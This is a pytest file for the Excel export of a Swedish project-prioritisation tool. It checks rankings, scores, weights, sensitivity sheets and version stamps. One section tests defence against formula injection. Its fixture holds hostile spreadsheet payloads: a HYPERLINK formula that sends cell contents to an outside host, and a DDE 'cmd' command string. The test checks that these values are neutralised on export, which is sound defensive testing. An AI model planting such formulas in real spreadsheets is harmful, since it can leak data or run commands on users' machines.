"""The Excel priority list, read back with openpyxl and checked against the analysis results."""

from __future__ import annotations

import io
import json
from datetime import UTC, datetime

import numpy as np
import openpyxl
import pytest

from prioritization import analysis, projectfile
from prioritization.exports import LIVE_NAME, VersionStamp
from prioritization.exports.excel import priority_list_xlsx
from tests.conftest import EXAMPLE, plain_example_bytes
from tests.exports.conftest import workbook_texts

SV_SHEETS = ["Prioriteringslista", "Redan prioriterade", "Poäng", "Vikter och metod", "Känslighet", "Om"]
EN_SHEETS = ["Priority list", "Already prioritised", "Scores", "Weights and method", "Sensitivity", "About"]
LIST_HEADER_ROW = 6
EXPORTED = datetime(2024, 5, 1, 12, 30, tzinfo=UTC)


@pytest.fixture(scope="module")
def report(project):
    return analysis.sensitivity(project, samples=300, seed=11)


@pytest.fixture(scope="module")
def version(project):
    return VersionStamp("Inför beslut 2024-05", projectfile.sha256(project),
                        datetime(2024, 4, 30, 9, 0, tzinfo=UTC))


@pytest.fixture(scope="module")
def book(project, ranking, report, version):
    data = priority_list_xlsx(project, ranking, version=version, sensitivity=report, exported_at=EXPORTED)
    return openpyxl.load_workbook(io.BytesIO(data))


def header_map(ws, row: int = 1) -> dict[str, int]:
    return {c.value: c.column for c in ws[row] if c.value is not None}


def table(ws, header_row: int = 1) -> list[dict]:
    """Rows under the header as dicts, up to the first empty row."""
    cols = header_map(ws, header_row)
    out = []
    for r in range(header_row + 1, ws.max_row + 1):
        if ws.cell(row=r, column=1).value is None:
            break
        out.append({name: ws.cell(row=r, column=c).value for name, c in cols.items()})
    return out


def all_values(ws):
    return [c.value for row in ws.iter_rows() for c in row if c.value is not None]


def test_version_stamp_live_uses_the_project_hash(project):
    v = VersionStamp.live(project)
    assert v.name == LIVE_NAME == "Live (ej fryst)"
    assert v.sha256 == projectfile.sha256(project) and len(v.sha256) == 64
    assert v.frozen_at is None


def test_sheet_names_and_bold_frozen_header_on_every_sheet(book):
    assert book.sheetnames == SV_SHEETS
    for ws in book:
        header_row = LIST_HEADER_ROW if ws.title == SV_SHEETS[0] else 1
        assert ws.freeze_panes == f"A{header_row + 1}", ws.title
        cells = [c for c in ws[header_row] if c.value is not None]
        assert cells and all(c.font.b for c in cells), ws.title
        assert ws.print_title_rows == f"${header_row}:${header_row}"
        widths = [ws.column_dimensions[chr(ord("A") + k)].width for k in range(len(cells))]
        assert all(w and w >= 6 for w in widths), ws.title


def test_list_equals_the_ranking(book, ranking):
    rows = table(book["Prioriteringslista"], LIST_HEADER_ROW)
    assert "Nivå" not in header_map(book["Prioriteringslista"], LIST_HEADER_ROW)  # no tiers given
    assert [r["Objekt-id"] for r in rows] == [x.object.id for x in ranking.ranked]
    assert [r["Rang"] for r in rows] == [x.rank for x in ranking.ranked]
    for r, x in zip(rows, ranking.ranked, strict=True):
        assert isinstance(r["Poäng (0–100)"], float)
        assert r["Poäng (0–100)"] / 100 == pytest.approx(x.score, abs=1e-9)
        assert r["Objekt"] == x.object.name
        assert r["Kommuner"] == ", ".join(x.object.attributes["municipalities"])
        assert r["Kostnad (MSEK)"] == x.object.cost
        assert r["Status"] == "kandidat"
    # scores fall and ranks never decrease down the list
    scores = [r["Poäng (0–100)"] for r in rows]
    assert scores == sorted(scores, reverse=True)


def test_rationale_names_the_two_largest_contributions(book, project, ranking):
    rows = {r["Objekt-id"]: r for r in table(book["Prioriteringslista"], LIST_HEADER_ROW)}
    v = analysis.decision_data(project).values
    for i, o in enumerate(project.candidates):
        contrib = ranking.weights * v[i]
        first, second = np.argsort(-contrib, kind="stable")[:2]
        text = rows[o.id]["Motivering (största bidrag)"]
        assert text.startswith(project.criteria[first].name + " (")
        assert f", {project.criteria[second].name} (" in text
        assert f"({100 * contrib[first]:.1f} p)".replace(".", ",") in text


def test_number_formats_are_real_numbers_with_format_codes(book, project):
    ws = book["Prioriteringslista"]
    cols = header_map(ws, LIST_HEADER_ROW)
    first = LIST_HEADER_ROW + 1
    assert ws.cell(row=first, column=cols["Poäng (0–100)"]).number_format == "0.0"
    cost_cells = [ws.cell(row=r, column=cols["Kostnad (MSEK)"]) for r in range(first, ws.max_row + 1)]
    assert any(isinstance(c.value, (int, float)) and c.number_format == "#,##0" for c in cost_cells)
    # a made-up example cost stays a number but reads "2 600 (exempeldata)"; a sourced one does not
    # (issue 11 #15)
    ids = [ws.cell(row=r, column=cols["Objekt-id"]).value for r in range(first, ws.max_row + 1)]
    for object_id, cell in zip(ids, cost_cells, strict=True):
        assert isinstance(cell.value, (int, float))
        made_up = next(o for o in project.candidates if o.id == object_id).cost_is_illustrative
        assert cell.number_format == ('#,##0" (exempeldata)"' if made_up else "#,##0")
    assert {c.number_format for c in cost_cells} == {"#,##0", '#,##0" (exempeldata)"'}  # both kinds present
    w = book["Vikter och metod"]
    weight_cell = w.cell(row=2, column=header_map(w)["Vikt"])
    assert isinstance(weight_cell.value, float) and weight_cell.number_format.endswith("%")


def test_committed_objects_only_on_their_sheet(book, project, ranking):
    committed = {o.id for o in project.committed}
    assert committed == {"SOD-01", "SOD-12"}  # the example data's two financed objects
    rows = table(book["Redan prioriterade"])
    assert {r["Objekt-id"] for r in rows} == committed
    assert all(r["Status"] == "redan prioriterad – bevakas" for r in rows)
    for ws in book:
        if ws.title != "Redan prioriterade":
            assert not committed & set(all_values(ws)), ws.title
    assert not {x.object.id for x in ranking.ranked} & {r["Objekt-id"] for r in rows}


def test_label_version_and_hash_visible_on_first_sheet_and_about(book, version):
    ws = book["Prioriteringslista"]
    above = " ".join(str(ws.cell(row=r, column=1).value) for r in range(1, LIST_HEADER_ROW))
    assert "Exempeldata" in above and version.sha256 in above and version.name in above
    # the example label says what it means, as on screen: the figures are invented
    assert "Exempeldata – poäng, vikter och vissa uppgifter är påhittade" in above
    assert "Fingeravtryck (SHA-256)" in above and "Vikter: vikterna i bruk" in above
    assert "UTKAST" not in above  # a frozen version
    assert version.sha256[:12] in ws.oddFooter.center.text
    about = dict(ws_row[:2] for ws_row in book["Om"].iter_rows(min_row=2, values_only=True))
    assert about["Märkning"] == "Exempeldata"
    assert about["Version"] == version.name
    assert about["Fingeravtryck (SHA-256) av projektfilen"] == version.sha256
    assert about["Vikter"] == "vikterna i bruk"
    assert about["Exporterad (svensk tid)"] == datetime(2024, 5, 1, 14, 30)  # Swedish summer time
    assert about["Fryst (svensk tid)"] == datetime(2024, 4, 30, 11, 0)
    assert about["Verktyg"].startswith("prioritization ")


def test_scores_sheet_aggregate_matches_participants_and_agreed_scores(book, project):
    ws = book["Poäng"]
    rows = table(ws)
    people = [p.organisation for p in project.participants]
    assert set(people) <= set(header_map(ws))
    assert len(rows) == len(project.candidates) * len(project.criteria)
    assert not {o.id for o in project.committed} & {r["Objekt-id"] for r in rows}
    agreed = {(s.object, s.criterion): s.value for s in project.scores if s.participant is None}
    own = {(s.object, s.criterion, s.participant): s.value for s in project.scores if s.participant}
    seen_agreed = seen_rated = 0
    for r in rows:
        key = (r["Objekt-id"], r["Kriterie-id"])
        given = [r[p] for p in people if r[p] is not None]
        if key in agreed:
            seen_agreed += 1
            assert r["Samsynspoäng"] == "ja" and r["Sammanvägd poäng"] == agreed[key]
            assert r["Spridning (standardavvikelse)"] is None
        else:
            seen_rated += 1
            assert r["Samsynspoäng"] == "nej"
            assert r["Sammanvägd poäng"] == pytest.approx(np.mean(given), abs=1e-12)  # aggregation "mean"
            assert r["Spridning (standardavvikelse)"] == pytest.approx(np.std(given), abs=1e-12)
            assert r["Antal bedömningar"] == len(given)
        for p in project.participants:
            assert r[p.organisation] == own.get((*key, p.id))
    assert seen_agreed and seen_rated


def test_weights_sheet_matches_the_direct_points(book, project):
    raw = json.loads(EXAMPLE.read_text(encoding="utf-8"))["weights"]["points"]
    rows = table(book["Vikter och metod"])
    assert [r["Kriterie-id"] for r in rows] == [c.id for c in project.criteria]
    for r, c in zip(rows, project.criteria, strict=True):
        assert r["Vikt"] == pytest.approx(raw[r["Kriterie-id"]] / sum(raw.values()), abs=1e-12)
        assert r["Riktning"] == {"benefit": "högre är bättre", "cost": "lägre är bättre"}[c.direction]
        assert r["Skala"] == "1–5"
    texts = all_values(book["Vikter och metod"])
    assert "viktad summa (WSM)" in texts and "medelvärde" in texts and "direkt poängsättning (100 poäng)" in texts


def test_sensitivity_sheet_matches_the_report(book, report, ranking):
    ws = book["Känslighet"]
    rows = table(ws)
    index = {o.id: i for i, o in enumerate(report.data.objects)}
    acc = report.smaa.rank_acceptability
    assert [r["Objekt-id"] for r in rows] == [x.object.id for x in ranking.ranked]
    for r in rows:
        i = index[r["Objekt-id"]]
        assert r["Andel scenarier på plats 1"] == pytest.approx(acc[i, 0], abs=1e-12)
        assert r["Andel scenarier bland de tre främsta"] == pytest.approx(acc[i, :3].sum(), abs=1e-12)
        assert r["Andel scenarier på plats 1"] <= r["Andel scenarier bland de tre främsta"] + 1e-12
        assert acc[i, r["Mest sannolika rang"] - 1] == acc[i].max()
    assert sum(r["Andel scenarier på plats 1"] for r in rows) == pytest.approx(1.0, abs=1e-9)
    # the criterion table follows after one empty row, with its own bold header
    crit_header = len(rows) + 3
    crit = table(ws, crit_header)
    assert ws.cell(row=crit_header, column=1).font.b
    assert [r["Kriterie-id"] for r in crit] == [c.id for c in report.data.criteria]
    for r, w in zip(crit, report.weights, strict=True):
        assert r["Vikt"] == pytest.approx(w, abs=1e-12)
        assert r["Rangordningen står sig från vikt"] <= w + 1e-12 <= r["Rangordningen står sig till vikt"] + 2e-12
        assert r["Förstaplatsen står sig från vikt"] <= w + 1e-12 <= r["Förstaplatsen står sig till vikt"] + 2e-12
    values = all_values(ws)
    critical = report.data.criteria[report.critical.percent_top].name
    assert critical in values and report.smaa.seed in values and 300 in values


def test_without_sensitivity_there_is_no_sensitivity_sheet(project, ranking, version):
    book = openpyxl.load_workbook(io.BytesIO(priority_list_xlsx(project, ranking, version=version)))
    assert book.sheetnames == [s for s in SV_SHEETS if s != "Känslighet"]


def test_tiers_add_tier_and_rank_within_tier(project, ranking, version):
    ids = [x.object.id for x in ranking.ranked]
    tiers = {oid: ("A" if k < 3 else "B") for k, oid in enumerate(ids[:-1])}  # the last one has no tier
    book = openpyxl.load_workbook(io.BytesIO(priority_list_xlsx(project, ranking, version=version, tiers=tiers)))
    rows = table(book["Prioriteringslista"], LIST_HEADER_ROW)
    assert [r["Nivå"] for r in rows] == ["A", "A", "A"] + ["B"] * (len(ids) - 4) + [None]
    ranks = [x.rank for x in ranking.ranked]
    assert len(set(ranks)) == len(ranks)  # no ties in the example, so ranks within tier count up
    assert [r["Plats inom nivån"] for r in rows] == [1, 2, 3] + list(range(1, len(ids) - 3)) + [None]


def test_english_variant(project, ranking, report, version):
    data = priority_list_xlsx(project, ranking, version=version, sensitivity=report, lang="en")
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == EN_SHEETS
    header = header_map(book["Priority list"], LIST_HEADER_ROW)
    assert {"Rank", "Object ID", "Object", "Score (0–100)", "Cost (SEK m)", "Status"} <= set(header)
    rows = table(book["Priority list"], LIST_HEADER_ROW)
    assert rows[0]["Object"] == ranking.ranked[0].object.attributes["name_en"]
    assert rows[0]["Status"] == "candidate"
    assert "Criterion" in header_map(book["Weights and method"])


def test_other_method_has_no_rationale_but_same_scores(project, version):
    r = analysis.rank(project, method="topsis")
    book = openpyxl.load_workbook(io.BytesIO(priority_list_xlsx(project, r, version=version)))
    rows = table(book["Prioriteringslista"], LIST_HEADER_ROW)
    assert [x["Objekt-id"] for x in rows] == [x.object.id for x in r.ranked]
    assert all(x["Motivering (största bidrag)"] is None for x in rows)
    assert all(x["Poäng (0–100)"] / 100 == pytest.approx(y.score, abs=1e-9) for x, y in zip(rows, r.ranked, strict=True))
    assert "TOPSIS" in all_values(book["Vikter och metod"])


# --- formula injection ----------------------------------------------------------------------------

HOSTILE = {
    "SOD-02": '=HYPERLINK("http://example.invalid/?q="&A1,"Klicka")',
    "SOD-03": "+46 8 123 45 67",
    "SOD-04": "-2+3",
    "SOD-01": "@SUM(A1:A9)",  # committed
}


@pytest.fixture(scope="module")
def hostile_project():
    raw = json.loads(plain_example_bytes())
    for o in raw["objects"]:
        if o["id"] in HOSTILE:
            o["name"] = HOSTILE[o["id"]]
            o["municipalities"] = ["\tBotkyrka", "=1+1"]
    raw["name"] = "=cmd|' /C calc'!A0"
    raw["participants"][0]["organisation"] = "=Botkyrka"
    return projectfile.parse(raw, check_text=False)  # as stored before names were refused at entry


def test_formula_like_text_is_neutralised_and_numbers_stay_numbers(hostile_project):
    ranking = analysis.rank(hostile_project)
    report = analysis.sensitivity(hostile_project, samples=50, seed=3)
    version = VersionStamp("=version", "0" * 64)
    data = priority_list_xlsx(hostile_project, ranking, version=version, sensitivity=report,
                              tiers={"SOD-02": "=A", "SOD-03": "B"}, exported_at=EXPORTED)
    book = openpyxl.load_workbook(io.BytesIO(data))
    texts = workbook_texts(book)
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # the names survive, only prefixed
    for name in HOSTILE.values():
        assert "'" + name in texts
    assert "'=A" in texts and "'=Botkyrka" in texts
    rows = table(book["Prioriteringslista"], LIST_HEADER_ROW)
    for r, x in zip(rows, ranking.ranked, strict=True):
        assert isinstance(r["Rang"], int) and isinstance(r["Poäng (0–100)"], float)
        assert r["Poäng (0–100)"] / 100 == pytest.approx(x.score, abs=1e-9)
        assert r["Kostnad (MSEK)"] is None or isinstance(r["Kostnad (MSEK)"], (int, float))
        if x.object.id in HOSTILE:
            assert r["Objekt"] == "'" + HOSTILE[x.object.id]
            assert r["Kommuner"] == "'\tBotkyrka, =1+1"


# --- review of issue 4: comparison profiles, the smallest change, ties, drafts ----------------------


@pytest.fixture(scope="module")
def roc_profile_project():
    """The example with profile P2 "Omställning" elicited by ranking (ROC), not by direct points as
    the weights in use are."""
    raw = json.loads(plain_example_bytes())
    p2 = next(p for p in raw["weight_profiles"] if p["id"] == "P2")
    order = sorted(p2["weights"]["points"], key=lambda c: (-p2["weights"]["points"][c], c))
    p2["weights"] = {"method": "roc", "ranks": {c: k + 1 for k, c in enumerate(order)}}
    return projectfile.parse(raw)


def test_comparison_profile_is_stamped_with_its_own_method(roc_profile_project, version):
    project = roc_profile_project
    assert project.weights.method == "direct" and project.profile("P2").weights.method == "roc"
    weights = analysis.project_weights(project, "P2").weights
    ranking = analysis.rank(project, weights=weights)
    book = openpyxl.load_workbook(io.BytesIO(priority_list_xlsx(project, ranking, version=version,
                                                                weights_label="Omställning")))
    ws = book["Prioriteringslista"]
    stamp = "Vikter: viktprofil ”Omställning” (jämförelse – inte vikterna i bruk)"
    assert ws.cell(row=4, column=1).value == stamp
    assert ws.cell(row=4, column=1).font.b and ws.cell(row=4, column=1).fill.fgColor.rgb.endswith("FFF3CD")
    assert all("Viktprofil ”Omställning” (jämförelse)" in w.oddFooter.center.text for w in book)
    pairs = {r[0]: r[1] for r in book["Vikter och metod"].iter_rows(values_only=True) if r[0] and r[1]}
    assert pairs["Vikter"] == stamp.removeprefix("Vikter: ")
    assert pairs["Viktmetod"] == "rangordning (ROC)"  # the profile's method, not "direkt poängsättning"
    rows = table(book["Vikter och metod"])
    assert [r["Vikt"] for r in rows] == pytest.approx(list(weights), abs=1e-12)
    about = dict(r[:2] for r in book["Om"].iter_rows(min_row=2, values_only=True))
    assert about["Vikter"] == stamp.removeprefix("Vikter: ")


def test_weights_in_use_keep_their_method(book):
    pairs = {r[0]: r[1] for r in book["Vikter och metod"].iter_rows(values_only=True) if r[0] and r[1]}
    assert pairs["Vikter"] == "vikterna i bruk" and pairs["Viktmetod"] == "direkt poängsättning (100 poäng)"
    assert "Viktprofil" not in book["Prioriteringslista"].oddFooter.center.text


def test_smallest_change_is_the_new_weight_and_its_relative_change(book, report):
    ws = book["Känslighet"]
    n_objects = len(table(ws))
    crit = table(ws, n_objects + 3)
    new_col = "Ny vikt vid minsta ändring som ändrar förstaplatsen"
    rel_col = "Den ändringen i procent av nuvarande vikt: (ny − nu) / nu"
    assert "Minsta relativa viktändring som ändrar förstaplatsen" not in header_map(ws, n_objects + 3)
    seen = 0
    for r, s in zip(crit, report.stability, strict=True):
        if r[new_col] is None:
            assert r[rel_col] is None and tuple(s.top) == pytest.approx((0.0, 1.0))  # first place never changes
            continue
        seen += 1
        # the new weight is an end of the interval in which first place holds, on the shown 100 % scale
        assert 0.0 <= r[new_col] <= 1.0
        assert min(abs(r[new_col] - s.top[0]), abs(r[new_col] - s.top[1])) < 1e-9
        # the relative change is of the weight shown: the new weight = now × (1 + change)
        assert r["Vikt"] * (1 + r[rel_col]) == pytest.approx(r[new_col], abs=1e-12)
        assert ws.cell(row=n_objects + 4, column=header_map(ws, n_objects + 3)[rel_col]).number_format == "0.0%"
    assert seen >= 3
    c1 = next(r for r in crit if r["Kriterie-id"] == "C1")
    # C1 in the example: 12 % -> about 77 %, i.e. about +545 %, not the T&S delta' of 2 413,7 %
    assert c1[new_col] == pytest.approx(0.7742, abs=1e-4) and c1[rel_col] == pytest.approx(0.7742 / 0.12 - 1, abs=1e-3)
    notes = all_values(ws)
    assert any(isinstance(v, str) and v.startswith("Den minsta ändringen av ett kriteriums vikt") for v in notes)


def test_tied_objects_share_their_place_within_the_tier(tied_project, tied_ranking, tied_tiers, version):
    book = openpyxl.load_workbook(io.BytesIO(priority_list_xlsx(tied_project, tied_ranking, version=version,
                                                                tiers=tied_tiers)))
    rows = table(book["Prioriteringslista"], LIST_HEADER_ROW)
    assert [r["Rang"] for r in rows[:5]] == [1, 1, 1, 1, 5]
    for r in rows:
        better = sum(1 for q in rows if q["Nivå"] == r["Nivå"] and q["Poäng (0–100)"] > r["Poäng (0–100)"] + 1e-9)
        assert r["Plats inom nivån"] == 1 + better


def test_live_version_is_a_draft_and_named_in_english(project, ranking):
    live = VersionStamp.live(project)
    sv = openpyxl.load_workbook(io.BytesIO(priority_list_xlsx(project, ranking, version=live)))
    assert "UTKAST – inte fryst version" in sv["Prioriteringslista"].cell(row=3, column=1).value
    en = openpyxl.load_workbook(io.BytesIO(priority_list_xlsx(project, ranking, version=live, lang="en")))
    stamp = en["Priority list"].cell(row=3, column=1).value
    assert "Live (not frozen)" in stamp and "DRAFT – not a frozen version" in stamp and "ej fryst" not in stamp
    assert "Live (not frozen)" in en["Priority list"].oddFooter.center.text
    about = dict(r[:2] for r in en["About"].iter_rows(min_row=2, values_only=True))
    assert about["Version"] == "Live (not frozen)"
